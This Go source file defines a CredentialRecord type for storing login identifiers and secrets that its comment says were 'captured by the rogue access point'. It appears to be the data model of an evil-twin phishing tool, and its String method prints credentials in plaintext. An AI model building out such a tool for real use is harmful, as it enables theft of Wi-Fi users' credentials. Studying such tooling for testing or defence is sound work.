package domain

import "time"

// CredentialRecord is a form submission captured by the rogue access point.
// Records are stored as submitted: no validation, no deduplication.
type CredentialRecord struct {
	Identifier  string    `json:"identifier"`
	Secret      string    `json:"secret"`
	SubmittedAt time.Time `json:"submitted_at"`
}

// NewCredentialRecord stamps a submission with the current time.
func NewCredentialRecord(identifier, secret string) CredentialRecord {
	return CredentialRecord{
		Identifier:  identifier,
		Secret:      secret,
		SubmittedAt: time.Now(),
	}
}

func (c CredentialRecord) String() string {
	return "Cred: " + c.Identifier + ":" + c.Secret
}
